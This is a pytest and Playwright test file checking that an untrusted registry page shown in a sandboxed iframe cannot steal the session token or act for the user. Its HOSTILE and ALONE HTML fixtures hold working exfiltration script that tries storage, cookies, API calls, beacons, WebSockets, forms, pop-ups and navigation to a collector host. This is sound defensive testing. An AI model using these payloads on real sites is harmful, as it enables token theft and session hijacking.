"""A protocol's page from a registry is not the person (issue 17, item 7), in Chromium.

A hostile bundle tries every way to read the token, call /api/state (the hand), post a chat
line or a decision as the person, and send what it learnt away (fetch, image, beacon,
WebSocket, form, pop-up, navigating itself or the top page); a collector on another
loopback port records anything that reaches it. Nothing does, and the session is untouched.
A benign bundle still shows the game from the bridge and may suggest a move, which the
person plays with the shell's own button."""

from __future__ import annotations

import asyncio
import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from lingxi.session.core.machine import SessionConfig
from lingxi.session.drivers.endpoints import memory_session
from lingxi.session.drivers.live import LiveSession
from lingxi.session.runner import load_protocol
from lingxi.ui import start_ui

from .test_pages_browser import HANG_GUARD, _open, browser  # noqa: F401 - the fixture

pytestmark = pytest.mark.browser
BUNDLE = {"bundle_id": "b" * 64, "registry": "http://registry.example",
          "publisher": {"nickname": "mallory", "agent_id": "agent-mallory"},
          "allowed_by": "the protocol's registrant"}

HOSTILE = """<!doctype html><html><head>
<link rel="stylesheet" href="COLLECTOR/css">
<script src="COLLECTOR/js"></script>
</head><body><pre id="r"></pre><img src="COLLECTOR/tag">
<script>
const C = "COLLECTOR/";
const out = {};
function note(k, v) { out[k] = String(v); document.getElementById("r").textContent = JSON.stringify(out); }
function attempt(k, f) { try { note(k, f()); } catch (e) { note(k, "blocked:" + e.name); } }
attempt("search", () => parent.location.search);
attempt("href", () => parent.location.href);
attempt("storage", () => sessionStorage.getItem("lingxi-token"));
attempt("cookie", () => document.cookie);
attempt("parentdoc", () => parent.document.body.textContent.length);
note("referrer", document.referrer);
note("ownurl", location.href);
fetch("/api/state").then(r => r.text()).then(t => note("state", t), e => note("state", "blocked:" + e.name));
fetch("/api/input", {method: "POST", headers: {"Content-Type": "application/json"},
  body: JSON.stringify({line: "pwned"})}).then(r => note("input", r.status), e => note("input", "blocked:" + e.name));
fetch("/api/decide", {method: "POST", headers: {"Content-Type": "application/json"},
  body: JSON.stringify({value: "rock"})}).then(r => note("decide", r.status), e => note("decide", "blocked:" + e.name));
fetch(C + "fetch").catch(() => {});
new Image().src = C + "img";
attempt("beacon", () => navigator.sendBeacon(C + "beacon", "x"));
attempt("ws", () => new WebSocket("ws" + C.slice(4) + "ws"));
parent.postMessage({lingxi: 1, kind: "decide", value: "rock"}, "*");
parent.postMessage({lingxi: 1, kind: "input", line: "pwned"}, "*");
parent.postMessage({lingxi: 1, kind: "abort", reason: "pwned"}, "*");
parent.postMessage({lingxi: 1, kind: "navigate", url: C + "via-shell"}, "*");
attempt("popup", () => window.open(C + "popup"));
attempt("top", () => { top.location.href = C + "top"; return "tried"; });
const f = document.createElement("form"); f.action = C + "form"; document.body.appendChild(f);
attempt("form", () => { f.submit(); return "tried"; });
const a = document.createElement("a"); a.href = C + "link"; a.target = "_top"; document.body.appendChild(a);
attempt("link", () => { a.click(); return "tried"; });
setTimeout(() => note("done", "yes"), 300);
window.leave = () => { location.href = C + "self?" + encodeURIComponent(JSON.stringify(out)); };
</script></body></html>"""

BENIGN = """<!doctype html><html><body><p id="count">0</p><p id="rounds"></p>
<script>
let events = 0, proposed = null;
window.addEventListener("message", ev => {
  const m = ev.data;
  if (!m || m.lingxi !== 1) return;
  if (m.kind === "event") {
    events += 1;
    document.getElementById("count").textContent = String(events);
    if (m.data.event === "round") document.getElementById("rounds").textContent += "round " + m.data.round + ";";
  }
  if (m.kind === "state" && m.data.pending_decision && m.data.pending_decision.point_id !== proposed) {
    proposed = m.data.pending_decision.point_id;
    parent.postMessage({lingxi: 1, kind: "choose", value: "paper"}, "*");
  }
});
parent.postMessage({lingxi: 1, kind: "ready"}, "*");
</script></body></html>"""


class Collector:
    """An HTTP server on another loopback port that records every request it gets."""

    def __init__(self) -> None:
        self.requests: list[str] = []
        collector = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args) -> None:
                pass

            def _any(self) -> None:  # noqa: N802
                collector.requests.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_GET = do_POST = do_PUT = _any  # noqa: N815

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _bundle(tmp_path: Path, html: str) -> Path:
    ui = tmp_path / "fetched" / "ui"
    ui.mkdir(parents=True)
    (ui / "index.html").write_text(html)
    (ui / ".lingxi-bundle.json").write_text(json.dumps(BUNDLE))
    return ui


async def _host_with_page(ui: Path):
    live = LiveSession()
    server = await start_ui(live, ui)
    session = asyncio.ensure_future(memory_session(
        load_protocol("rock-paper-scissors"), options={"best_of": 1}, seed=2,
        config=SessionConfig(peer_timeout=HANG_GUARD),
        host_kwargs={"live": live, "decider": lambda request: None}))
    return live, server, session


async def test_a_hostile_registry_page_reaches_nothing(browser, tmp_path) -> None:  # noqa: F811
    from playwright.async_api import expect

    collector = Collector()
    ui = _bundle(tmp_path, HOSTILE.replace("COLLECTOR", collector.url))
    live, server, session = await _host_with_page(ui)
    context = await browser.new_context()
    popups: list[str] = []
    try:
        page = await context.new_page()
        context.on("page", lambda p: popups.append(p.url))  # any page opened from now on
        page.set_default_timeout(HANG_GUARD * 1000)
        errors: list[str] = []
        page.on("pageerror", lambda e: errors.append(str(e)))
        await page.goto(server.url)
        await expect(page.locator("#lx-decision button.lx-choice")).to_have_count(3)
        frame = page.frame_locator("#lx-frame")
        await expect(frame.locator("#r")).to_contain_text('"done":"yes"')
        await page.wait_for_timeout(1500)  # let every attempt that could land, land
        found = json.loads(await frame.locator("#r").text_content())
        facts = await page.locator("#lx-bundle-facts").text_content()
        inner = next(f for f in page.frames if f is not page.main_frame)
        await inner.evaluate("window.leave()")  # last: the page sends itself away
        await page.wait_for_timeout(1000)
        shell_url = page.url
        frame_url = next(f.url for f in page.frames if f is not page.main_frame)
        pending = live.pending
        events = [e["event"] for e in live.events]
        live.abort("the test is over")
        await asyncio.wait_for(session, HANG_GUARD)
    finally:
        await context.close()
        await server.close()
        collector.close()
    assert collector.requests == []  # nothing left the page: no fetch, image, form, navigation
    assert popups == []
    assert shell_url.startswith(server.base_url + "/") and "collector" not in shell_url
    assert not frame_url.startswith(collector.url)  # its navigation away was refused
    for key in ("search", "href", "storage", "cookie", "parentdoc"):
        assert found[key].startswith("blocked:"), (key, found[key])
    assert found["referrer"] == "" and server.token not in json.dumps(found)
    for key in ("state", "input", "decide"):
        assert found[key].startswith("blocked:"), (key, found[key])
    # the session saw none of it: the decision is still the person's, no line was sent
    assert pending is not None and "decision.made" not in events
    assert not any(e == "session.abort_requested" for e in events)
    assert "mallory" in facts and "b" * 64 in facts and "registry.example" in facts


async def test_a_registry_page_shows_the_game_and_the_person_plays_its_suggestion(
        browser, tmp_path) -> None:  # noqa: F811
    from playwright.async_api import expect

    live, server, session = await _host_with_page(_bundle(tmp_path, BENIGN))
    try:
        page = await _open(browser, server.url)
        frame = page.frame_locator("#lx-frame")
        proposed = page.locator("#lx-decision button.lx-proposed")
        await expect(proposed).to_have_attribute("data-value", '"paper"')
        await expect(page.locator("#lx-decision-note")).to_contain_text("the page suggests")
        assert "decision.made" not in [e["event"] for e in live.events]  # a suggestion only
        await proposed.click()  # the person plays it
        host, guest = await asyncio.wait_for(session, HANG_GUARD)
        await expect(frame.locator("#rounds")).to_have_text("round 1;")
        await expect(page.locator("#lx-outcome")).to_be_visible()
        assert page.errors == []
    finally:
        await server.close()
    made = [e for e in live.events if e["event"] == "decision.made"]
    assert [e["value"] for e in made] == ["paper"] and host.outcome.ok


ALONE = """<!doctype html><pre id="r"></pre><script>
const out = {};
function note(k, v) { out[k] = String(v); document.getElementById("r").textContent = JSON.stringify(out); }
try { note("storage", sessionStorage.getItem("lingxi-token")); } catch (e) { note("storage", "blocked:" + e.name); }
try { note("cookie", document.cookie); } catch (e) { note("cookie", "blocked:" + e.name); }
fetch("/api/state").then(r => r.text()).then(t => note("state", t), e => note("state", "blocked:" + e.name))
  .finally(() => fetch("COLLECTOR/x").catch(() => note("done", "yes")));
</script>"""


async def test_a_bundle_file_opened_on_its_own_is_still_sandboxed(
        browser, tmp_path) -> None:  # noqa: F811
    """Opening /bundle/index.html directly (not framed), in the tab that holds the token,
    gives it no more power: its CSP sandboxes it (an opaque origin: no storage of ours)
    and keeps it off the network."""
    collector = Collector()
    live, server, session = await _host_with_page(
        _bundle(tmp_path, ALONE.replace("COLLECTOR", collector.url)))
    try:
        page = await _open(browser, server.url)  # the shell keeps the token in this tab
        await page.goto(server.base_url + "/bundle/index.html")
        await page.wait_for_function(  # a function: the CSP refuses a re-evaled expression
            "() => document.getElementById('r').textContent.includes('done')")
        found = json.loads(await page.locator("#r").text_content())
        live.abort("the test is over")
        await asyncio.wait_for(session, HANG_GUARD)
    finally:
        await server.close()
        collector.close()
    assert collector.requests == []
    assert found["storage"].startswith("blocked:") and found["cookie"].startswith("blocked:")
    assert found["state"].startswith("blocked:")
